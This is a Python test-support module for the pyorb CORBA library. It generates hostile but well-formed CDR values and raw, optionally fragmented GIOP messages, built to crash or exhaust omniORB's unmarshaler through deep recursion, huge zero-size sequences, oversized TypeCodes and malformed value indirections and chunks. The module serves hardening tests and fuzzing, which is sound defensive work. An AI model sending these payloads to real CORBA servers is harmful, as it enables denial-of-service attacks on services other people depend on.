"""Well-formed but hostile values for Hardening::Target.take(in any), and the raw GIOP that carries them.

Each attack writes the CDR of one ``any`` that omniORB's own unmarshaler
cannot take safely: it recurses once per nesting level (a deep enough chain
overflows its C stack), makes one Python object per element of a zero-size
type, and costs quadratic memory for nested TypeCodes.  An attack is
called as ``attack(little_endian=True, base=0)``: the body in that byte
order for a stream position ``base`` (the offset of the body in its GIOP
message).  :func:`request` and :func:`reply` wrap a body in raw GIOP the
way an attacker sends it: any version, either byte order, in GIOP 1.1 or
1.2 fragments, with or without a CodeSets context.  Shared by
tests/test_hardening_values.py, tests/test_network_fuzz.py and
tests/attacks/attack_values.py.
"""

from __future__ import annotations

import struct
from typing import Callable, Protocol

from pyorb.giop import codec
from pyorb.giop.cdr import CDRWriter
from pyorb.giop.connection import GIOPConnection, Role
from pyorb.giop.codesets import CS_UTF16, code_sets_context
from pyorb.giop.messages import GIOP_1_1, GIOP_1_2, Reply, ReplyStatus, Request, ServiceContext, Version

TK_NULL, TK_LONG, TK_ANY, TK_STRUCT, TK_SEQUENCE, TK_ARRAY, TK_VALUE = 0, 3, 11, 15, 19, 20, 29
TC_INDIRECTION = 0xFFFFFFFF
FRAGMENT = 7

Fill = Callable[[CDRWriter], None]


class Attack(Protocol):
    def __call__(self, little_endian: bool = True, base: int = 0) -> bytes: ...


def _body(fill: Fill, little_endian: bool, base: int) -> bytes:
    w = CDRWriter(little_endian, base)
    fill(w)
    return w.getvalue()


def fill_nested_anys(depth: int) -> Fill:
    """An any holding an any holding ... ``depth`` deep, then a long."""

    def fill(w: CDRWriter) -> None:
        for _ in range(depth):
            w.ulong(TK_ANY)
        w.ulong(TK_LONG)
        w.long(7)

    return fill


def fill_nested_sequence_typecodes(depth: int) -> Fill:
    """An any whose TypeCode is sequence<sequence<...<long>>> ``depth`` deep, holding an empty sequence."""

    def fill(w: CDRWriter) -> None:
        tc = _u32(TK_LONG, w.little_endian)
        for _ in range(depth):  # each level: element type, then bound 0, in an encapsulation
            tc = _u32(TK_SEQUENCE, w.little_endian) + _encapsulation(tc + bytes(4), w.little_endian)
        w.align(4)
        w.raw(tc)
        w.ulong(0)  # an empty sequence

    return fill


def _u32(n: int, little_endian: bool) -> bytes:
    return n.to_bytes(4, "little" if little_endian else "big")


def _encapsulation(payload: bytes, little_endian: bool) -> bytes:
    # Byte-order octet, then the payload aligned from the encapsulation start.
    return _u32(len(payload) + 4, little_endian) + bytes((int(little_endian), 0, 0, 0)) + payload


def fill_nested_trees(depth: int) -> Fill:
    """A Hardening::Tree (``struct Tree { sequence<Tree> kids; }``) ``depth`` deep: no any, one ulong a level."""

    def fill(w: CDRWriter) -> None:
        for _ in range(depth - 1):
            w.ulong(1)
        w.ulong(0)

    return fill


def fill_empty_sequence(count: int) -> Fill:
    """An any holding a sequence<null> of ``count`` elements: a few octets on the wire."""
    return _empty_elements(TK_SEQUENCE, count)


def fill_empty_array(count: int) -> Fill:
    """An any holding an array<null, ``count``>: its length is in the TypeCode, its elements take no octets."""
    return _empty_elements(TK_ARRAY, count)


def _empty_elements(kind: int, count: int) -> Fill:
    def fill(w: CDRWriter) -> None:
        w.ulong(kind)
        w.encapsulation(lambda e: (e.ulong(TK_NULL), e.ulong(0 if kind == TK_SEQUENCE else count)))
        if kind == TK_SEQUENCE:
            w.ulong(count)  # the count; the elements take no octets

    return fill


def fill_big_typecode(size: int) -> Fill:
    """An any holding a long, its TypeCode a struct's with a repository id of ``size`` octets."""

    def fill(w: CDRWriter) -> None:
        w.ulong(TK_STRUCT)
        w.encapsulation(lambda e: (e.string("IDL:" + "x" * size + ":1.0"), e.string("Big"), e.ulong(1),
                                   e.string("v"), e.ulong(TK_LONG)))
        w.long(7)

    return fill


def attack(fill: Fill) -> Attack:
    """An :class:`Attack` writing one any with ``fill``."""
    return lambda little_endian=True, base=0: _body(fill, little_endian, base)


def nested_anys(depth: int, little_endian: bool = True, base: int = 0) -> bytes:
    return _body(fill_nested_anys(depth), little_endian, base)


def nested_sequence_typecodes(depth: int, little_endian: bool = True, base: int = 0) -> bytes:
    return _body(fill_nested_sequence_typecodes(depth), little_endian, base)


def empty_elements(count: int, little_endian: bool = True, base: int = 0) -> bytes:
    return _body(fill_empty_sequence(count), little_endian, base)


def fill_chain_then_nested_anys(depth: int) -> Fill:
    """An any holding a sequence<any>: a chain of two Links (a value inside a value, which pyorb's
    value reader reads), then an any holding an any ... ``depth`` deep."""

    def fill(w: CDRWriter) -> None:
        w.ulong(TK_SEQUENCE)
        w.encapsulation(lambda e: (e.ulong(TK_ANY), e.ulong(0)))
        w.ulong(2)
        link_typecode(w)
        w.align(4)
        w.raw(chunked_links(2))
        fill_nested_anys(depth)(w)

    return fill


ATTACKS: dict[str, Attack] = {
    "any in any, 300,000 deep": attack(fill_nested_anys(300_000)),
    "a chain, then any in any 300,000 deep": attack(fill_chain_then_nested_anys(300_000)),
    "sequence TypeCodes, 8,000 deep": attack(fill_nested_sequence_typecodes(8_000)),
    "sequence<null> of 2^27": attack(fill_empty_sequence(1 << 27)),
    "array<null, 2^27>": attack(fill_empty_array(1 << 27)),
    "a TypeCode of 128 KiB": attack(fill_big_typecode(128 * 1024)),
}


# -- raw GIOP, as an attacker sends it -------------------------------------------------


def code_sets(char_set: int | None) -> tuple[ServiceContext, ...]:
    """The service contexts naming ``char_set`` (None: none, as GIOP 1.0 and many clients send)."""
    return () if char_set is None else (code_sets_context(char_set, CS_UTF16),)


def request(
    value: Attack, version: Version = GIOP_1_2, little_endian: bool = True, fragmented: bool = False,
    char_set: int | None = None, operation: str = "take", request_id: int = 1, key: bytes = b"Target",
) -> bytes:
    """A Request for ``operation`` on the object ``key`` whose one argument is ``value``."""
    msg = Request(request_id=request_id, response_flags=3, object_key=key, operation=operation,
                  service_contexts=code_sets(char_set), version=version, little_endian=little_endian)
    return _message(msg, value, fragmented, Role.CLIENT)


def reply(
    value: Attack, version: Version = GIOP_1_2, little_endian: bool = True, fragmented: bool = False,
    exception_id: str | None = None, request_id: int = 1,
) -> bytes:
    """A Reply whose one result is ``value``, or (``exception_id``) a USER_EXCEPTION whose one member is."""
    status = ReplyStatus.NO_EXCEPTION if exception_id is None else ReplyStatus.USER_EXCEPTION
    msg = Reply(request_id=request_id, reply_status=status, version=version, little_endian=little_endian)
    if exception_id is not None:
        inner = value

        def value(little_endian: bool = True, base: int = 0) -> bytes:
            w = CDRWriter(little_endian, base)
            w.string(exception_id)
            return w.getvalue() + inner(little_endian, base + len(w.buf))

    return _message(msg, value, fragmented, Role.SERVER)


def _message(msg: Request | Reply, value: Attack, fragmented: bool, sender: Role) -> bytes:
    from dataclasses import replace

    base = codec.body_offset(msg)
    data = codec.encode(replace(msg, body=value(msg.little_endian, base)))
    if not fragmented:
        return data
    if msg.version == GIOP_1_2:  # the sender's own fragmenter: 8-aligned payloads, at least two
        size = max(64, min(4096, len(data) // 16 * 8))
        return GIOPConnection(sender, max_fragment_size=size).send(replace(msg, body=value(msg.little_endian, base)))
    if msg.version != GIOP_1_1:
        raise ValueError("GIOP 1.0 has no fragments")
    return fragments_11(data, base + 4)


def fragments_11(data: bytes, cut: int) -> bytes:
    """One GIOP 1.1 message as a Request/Reply of its first ``cut`` octets (a multiple of 4, so no
    ulong is split) and one Fragment of the rest, whose alignment restarts at its own header."""
    order = "little" if data[6] & 1 else "big"
    cut += -cut % 4
    first = bytearray(data[:cut])
    first[6] |= 2  # more fragments follow
    first[8:12] = (cut - 12).to_bytes(4, order)
    rest = data[cut:]
    return bytes(first) + b"GIOP\x01\x01" + bytes((data[6] & 1, FRAGMENT)) + len(rest).to_bytes(4, order) + rest


# Hostile value types: bodies of Hardening::Target.give_link(in Link l)
# (GIOP 1.2, little endian, 8-aligned), each breaking one rule of CORBA 3.0
# §15.3.4 that omniORB's unmarshaler would otherwise meet unchecked.
VALUE_TAG, CHUNKED_TAG, INDIRECTION, END_TAG = 0x7FFFFF00, 0x7FFFFF08, 0xFFFFFFFF, 0xFFFFFFFF


def _v32(n: int) -> bytes:
    return struct.pack("<I", n)


def _i32(n: int) -> bytes:
    return struct.pack("<i", n)


def deep_links(depth: int) -> bytes:
    """Links inside links ``depth`` deep (unchunked): omniORB recurses once per level."""
    return (_v32(VALUE_TAG) + _v32(1)) * depth + _v32(0)


def chunked_links(depth: int) -> bytes:
    """Chunked links ``depth`` deep, each in its own chunk (the last holding the
    null that ends the chain), then one end tag per level, innermost first."""
    head = b"".join(_v32(CHUNKED_TAG) + _v32(4) + _v32(k) for k in range(depth - 1))
    last = _v32(CHUNKED_TAG) + _v32(8) + _v32(depth - 1) + _v32(0)
    return head + last + b"".join(_i32(-(k + 1)) for k in reversed(range(depth)))


VALUE_ATTACKS = {
    "indirection forward": lambda: _v32(INDIRECTION) + _i32(8) + bytes(8),
    "indirection into itself": lambda: _v32(INDIRECTION) + _i32(-4),
    "indirection outside the stream": lambda: _v32(INDIRECTION) + _i32(-0x7FFFFFF0),
    "indirection to a repository id": lambda: _link_naming_its_own_id(),
    "chunk past the end": lambda: _v32(CHUNKED_TAG) + _v32(0x100000) + _v32(1) + _v32(0) + _v32(END_TAG),
    "chunk shorter than the state": lambda: _v32(CHUNKED_TAG) + _v32(4) + _v32(1) + _v32(END_TAG),
    "chunk longer than the state":
        lambda: _v32(CHUNKED_TAG) + _v32(12) + _v32(1) + _v32(0) + _v32(5) + _v32(END_TAG),
    "wrong end tag": lambda: _v32(CHUNKED_TAG) + _v32(8) + _v32(1) + _v32(0) + _i32(-2),
    "no end tag": lambda: _v32(CHUNKED_TAG) + _v32(8) + _v32(1) + _v32(0),
    "bad value tag": lambda: _v32(0x7FFFFE00) + _v32(1) + _v32(0),
    "values 100000 deep": lambda: deep_links(100_000),
    "chunked values 100000 deep": lambda: chunked_links(100_000),
    # A value inside a value first (read by pyorb's value reader, in an any too), then the fault.
    "nested, then indirection forward":
        lambda: _nested_link() + _v32(INDIRECTION) + _i32(8) + _i32(-1) + bytes(8),
    "nested, then an end tag too deep": lambda: _nested_link() + _v32(0) + _i32(-3),
    "nested, then a chunk past the end": lambda: _nested_link() + _v32(0) + _i32(-2) + _v32(0x100000) + _v32(0),
    "nested, then state after the shared end tag": lambda: _nested_link() + _v32(0) + _i32(-1) + _v32(4) + _v32(0),
    # A Link truncated from a type unknown here, a value nested in the state skipped.
    "nested in skipped state, its chunk past the end":
        lambda: _truncated_link() + _v32(CHUNKED_TAG) + _v32(0x100000) + _v32(0),
    "nested in skipped state, its end tag too deep":
        lambda: _truncated_link() + _v32(CHUNKED_TAG) + _v32(4) + _v32(2) + _i32(-3),
}
"""Each: a give_link body the server must answer with MARSHAL (and carry on)."""


def nested_across_fragments(inner_length: int) -> bytes:
    """A GIOP 1.1 give_link Request (little endian) of a chunked link holding a chunked link, cut into
    a fragment train inside the inner link's chunk, whose length says ``inner_length`` (8 is true)."""
    inner = _v32(CHUNKED_TAG) + _v32(inner_length) + _v32(2)
    body = _v32(CHUNKED_TAG) + _v32(4) + _v32(1) + inner + _v32(0) + _i32(-1)  # one end tag closes both
    data = request(sized_value_attack(lambda: body), GIOP_1_1, True, False, None, "give_link")
    return fragments_11(data, data.index(inner) + 8)  # between the inner chunk's length and its data


def _nested_link() -> bytes:
    """A chunked link whose next is a chunked link, open at the second's chunk of 8 octets (its id
    here; its next comes after)."""
    return _v32(CHUNKED_TAG) + _v32(4) + _v32(1) + _v32(CHUNKED_TAG) + _v32(8) + _v32(2)


def _truncated_link() -> bytes:
    """A chunked link of an unknown type truncatable to Hardening::Link, its Link state in a chunk."""
    ids = [b"IDL:Nowhere/Thing:1.0\0", b"IDL:Hardening/Link:1.0\0"]
    head = _v32(CHUNKED_TAG | 6) + _v32(len(ids)) + b"".join(_v32(len(i)) + i + bytes(-len(i) % 4) for i in ids)
    return head + _v32(8) + _v32(1) + _v32(0)


def _link_naming_its_own_id() -> bytes:
    """A link with its repository id whose next is an indirection to that string, not to a value."""
    rid = b"IDL:Hardening/Link:1.0\0"
    head = _v32(VALUE_TAG | 2) + _v32(len(rid)) + rid + bytes(-len(rid) % 4) + _v32(1)
    return head + _v32(INDIRECTION) + _i32(4 - len(head) - 4)


def unknown_value() -> bytes:
    """A Link body whose repository id names a type the receiver does not know."""
    rid = b"IDL:Nowhere/Thing:1.0\0"
    return _v32(VALUE_TAG | 2) + _v32(len(rid)) + rid + bytes(-len(rid) % 4) + _v32(1) + _v32(0)


def link_typecode(w: CDRWriter) -> None:
    """Hardening::Link's TypeCode (its ``next`` an indirection back to it), written to ``w``."""
    w.align(4)
    start = len(w.buf)
    params = CDRWriter(w.little_endian)
    params.octet(int(w.little_endian))
    params.string("IDL:Hardening/Link:1.0")
    params.string("Link")
    params.short(0)  # modifier
    params.ulong(TK_NULL)  # no concrete base
    params.ulong(2)
    params.string("id")
    params.ulong(TK_LONG)
    params.short(1)  # public
    params.string("next")
    params.ulong(TC_INDIRECTION)
    params.long(start - (start + 8 + len(params.buf)))  # to the tk_value 8 octets before the parameters
    params.short(1)
    w.ulong(TK_VALUE)
    w.ulong(len(params.buf))
    w.raw(bytes(params.buf))


def value_attack(name: str, in_any: bool = False) -> Attack:
    """``VALUE_ATTACKS[name]`` as an :class:`Attack` on a body at any offset: give_link's
    argument, or (``in_any``) take's any of a Link.  Little endian only, as the attacks are."""
    return sized_value_attack(VALUE_ATTACKS[name], in_any)


def sized_value_attack(body: Callable[[], bytes], in_any: bool = False) -> Attack:
    """An :class:`Attack` writing the little-endian value ``body()`` 4-aligned (after Link's TypeCode if ``in_any``)."""

    def write(little_endian: bool = True, base: int = 0) -> bytes:
        if not little_endian:
            raise ValueError("the hostile value bodies are little endian")
        w = CDRWriter(True, base)
        if in_any:
            link_typecode(w)
        w.align(4)
        w.raw(body())
        return w.getvalue()

    return write
